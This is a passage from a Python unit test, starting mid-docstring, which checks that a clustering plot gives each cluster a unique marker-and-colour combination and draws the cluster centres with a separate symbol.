    no two of the most clusters a run makes share both marker and colour."""
    from app.services.clustering import MAX_K, Cluster, ClusterResponse

    n = MAX_K
    clusters = [Cluster(i, 1, f"c{i}", [], [f"t{i}"], [i], (float(i), 0.0)) for i in range(n)]
    response = ClusterResponse(
        instruction="x", embedder="minilm", explainer=None, k=n, k_chosen=False, silhouette=None,
        texts=[f"t{i}" for i in range(n)], labels=list(range(n)),
        coordinates=[(float(i), 0.0) for i in range(n)], sources=[], answers=[], clusters=clusters,
        timings_ms={})
    traces = render.cluster_figure(response).to_dict()["data"]
    members = [t for t in traces if t.get("showlegend") is not False]
    symbols = [t["marker"]["symbol"] for t in members]
    assert len(members) == n and len(set(symbols[:10])) == 10, symbols
    assert len({(t["marker"]["symbol"], t["marker"]["color"]) for t in members}) == n
    [centres] = [t for t in traces if t.get("showlegend") is False]
    assert centres["marker"]["symbol"] not in symbols
